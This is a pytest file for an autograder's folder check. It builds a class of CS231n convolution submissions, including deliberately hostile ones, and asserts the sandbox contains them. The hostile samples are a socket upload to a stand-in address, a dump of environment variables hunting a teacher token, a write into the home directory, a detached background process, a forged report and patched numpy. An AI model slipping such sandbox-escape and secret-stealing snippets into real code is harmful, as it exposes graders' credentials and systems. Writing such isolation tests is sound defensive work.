"""`convscope check FOLDER`: a class of submissions whose truth is known, graded at once.

The class (60 files): correct files, three files per catalogued CS231n mistake (each
the catalogue's own mistaken code), ten bugs of our own that no catalogued mistake is
(tests/test_grader_buggy.py), crashes, a file that never returns, one that prints
megabytes, a syntax error, hostile files (a forged report, writes into the teacher's
home, a TCP upload, the environment read, a detached sleeper, numpy patched to hide
wrong outputs), one in Gradescope's one-folder-per-student layout beside a helper
module, and a file whose name is HTML.
The summary's counts must equal the truth, every hostile attempt must fail, nothing
may be left running, and the HTML report must escape what the files are called.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest
from test_grader_buggy import BUGGY, PRELUDE
from test_grader_isolation import FORGED, SECRET, WRONG_WITH_PATCHED_NUMPY
from test_grader_sandbox import ROOT, STUDENTS, running_with

from convcore.mistakes.catalogue import mistakes_for

pytestmark = pytest.mark.slow

CS231N = [m.id for m in mistakes_for("cs231n")]
CORRECT = (STUDENTS / "seven_loops.py").read_text()
MISTAKE = (
    "from convcore.mistakes.catalogue import MISTAKES\n_s = MISTAKES[{id!r}].implementation\n"
    "conv_forward_naive, conv_backward_naive = _s.forward, _s.backward\n"
)


def make_class(folder: Path, marker: str, home_file: Path) -> dict[str, str]:
    """Write the class; {submission name: what it should get}."""
    truth: dict[str, str] = {}

    def put(name: str, text: str, expect: str) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        truth[name] = expect

    for k in range(8):
        put(f"correct_{k}.py", CORRECT, "pass")
    put("gradescope_17/helpers.py", "PAD = 0\n", "")  # a student's helper module, not a submission
    put("gradescope_17/submission.py", "import helpers\n" + CORRECT, "pass")
    for mistake in CS231N:
        for k in range(3):
            put(f"{mistake}_{k}.py", MISTAKE.format(id=mistake), f"fail:{mistake}")
    for name in BUGGY:  # bugs of our own, no catalogued mistake (tests/test_grader_buggy.py)
        everywhere = name in ("wrong_key", "float_output_size")  # these raise on every input
        put(
            f"bug_{name}.py",
            PRELUDE + textwrap.dedent(BUGGY[name]),
            "error:raises on every input" if everywhere else "fail:",
        )
    put("raises.py", (STUDENTS / "raises.py").read_text(), "error:raises on every input")
    put("syntax_error.py", (STUDENTS / "syntax_error.py").read_text(), "error:syntax error")
    put("loops_forever.py", (STUDENTS / "loops_forever.py").read_text(), "error:one call ran past its time limit")
    put("prints.py", (STUDENTS / "prints.py").read_text(), "pass")
    put("forged.py", "import os\n" + FORGED, "error:tampered with the grader")
    put("patched_numpy.py", WRONG_WITH_PATCHED_NUMPY, "fail")
    # (isolated, the write lands in an empty home that vanishes with the check)
    put("writes_home.py", f"with open({str(home_file)!r}, 'a') as f:\n    f.write('pwned')\n" + CORRECT, "pass")
    put(
        "detaches.py",
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', "
        f"{marker!r}], start_new_session=True)\n" + CORRECT,
        "pass",
    )
    put("<b>bold</b>.py", CORRECT, "pass")
    # (isolated: no network, and none of the teacher's environment: graded as correct)
    put(
        "sends.py",
        "import socket\ntry:\n    socket.create_connection(('192.0.2.1', 80), timeout=1).sendall(b'x')\n"
        "except OSError:\n    pass\n" + CORRECT,
        "pass",
    )
    put(
        "reads_environ.py",
        "import os\nSTOLEN = repr(dict(os.environ))\n"
        + CORRECT.replace(
            "def conv_backward_naive(dout, cache):",
            "def conv_backward_naive(dout, cache):\n    assert 'TEACHER_TOKEN' not in STOLEN, STOLEN",
        ),
        "pass",
    )
    del truth["gradescope_17/helpers.py"]
    return truth


def test_a_class_folder_is_graded_to_its_known_truth(tmp_path):
    from convcore.grader.isolation import isolation

    folder = tmp_path / "class"
    marker = f"convscope-class-{uuid.uuid4().hex}"
    home_file = Path.home() / f".convscope-class-{uuid.uuid4().hex}"
    truth = make_class(folder, marker, home_file)
    isolated = isolation().isolated
    outputs = tmp_path / "out"
    started = time.monotonic()
    try:
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "convscope",
                "check",
                str(folder),
                "--json",
                "--call-time-limit",
                "2",
                "--csv",
                str(outputs / "class.csv"),
                "--class-report",
                str(outputs / "class.html"),
                "--gradescope",
                str(outputs / "gradescope"),
            ],
            env=dict(os.environ, PYTHONPATH=str(ROOT), TEACHER_TOKEN=SECRET),
            capture_output=True,
            text=True,
            timeout=600,
        )
        seconds = time.monotonic() - started
        assert done.returncode == 0, done.stderr[-2000:]
        print(f"{len(truth)} submissions graded in {seconds:.1f} s")
        data = json.loads(done.stdout)
        got = {s["name"]: s["report"] for s in data["submissions"]}
        assert set(got) == set(truth) and len(truth) >= 60
        assert SECRET not in done.stdout + done.stderr
        for name, expect in truth.items():
            report = got[name]
            status, _, detail = expect.partition(":")
            assert report["status"] == status, (name, report.get("error"), report["status"])
            if status == "error":
                from convcore.grader.batch import error_kind

                assert error_kind(report["error"]) == detail, (name, report["error"])
            named = {m["id"] for o in report.get("outputs", {}).values() for m in o.get("likely_mistakes", [])}
            if status == "fail" and detail:
                assert detail in named, (name, named)
            if name.startswith("bug_"):
                assert named == set(), (name, named)  # no catalogued name given wrongly
        summary = data["summary"]
        assert summary["count"] == len(truth)
        assert summary["passed"] == sum(v == "pass" for v in truth.values())
        assert summary["errors"] == sum(v.startswith("error") for v in truth.values())
        by_id = {m["id"]: m for m in summary["mistakes"]}
        for mistake in CS231N:
            assert {f"{mistake}_{k}.py" for k in range(3)} <= set(by_id[mistake]["submissions"]), mistake
        assert summary["errors_by_kind"]["syntax error"] == ["syntax_error.py"]
        # the files
        rows = list(csv.DictReader(io.StringIO((outputs / "class.csv").read_text())))
        assert {r["submission"]: r["status"] for r in rows} == {n: v.partition(":")[0] for n, v in truth.items()}
        page = (outputs / "class.html").read_text()
        assert "<b>bold</b>" not in page and "&lt;b&gt;bold&lt;/b&gt;.py" in page
        assert "<script" not in page and "http://127.0.0.1:8000/#s=0&amp;c=" in page
        for mistake in CS231N:
            assert f"<code>{mistake}</code>" in page
        gradescope = json.loads((outputs / "gradescope" / "correct_0" / "results.json").read_text())
        assert gradescope["score"] == 4
        assert json.loads((outputs / "gradescope" / "forged" / "results.json").read_text())["score"] == 0
        # what the hostile files tried
        if isolated:
            assert not home_file.exists()
        deadline = time.monotonic() + 5
        while running_with(marker) and time.monotonic() < deadline:
            time.sleep(0.1)
        if isolated:
            assert not running_with(marker)
    finally:
        home_file.unlink(missing_ok=True)
        subprocess.run(["pkill", "-f", marker], check=False)


def test_a_folder_without_submissions_is_refused(tmp_path):
    done = subprocess.run(
        [sys.executable, "-m", "convscope", "check", str(tmp_path)],
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2 and "holds no Python file to grade" in done.stderr
    shutil.rmtree(tmp_path, ignore_errors=True)
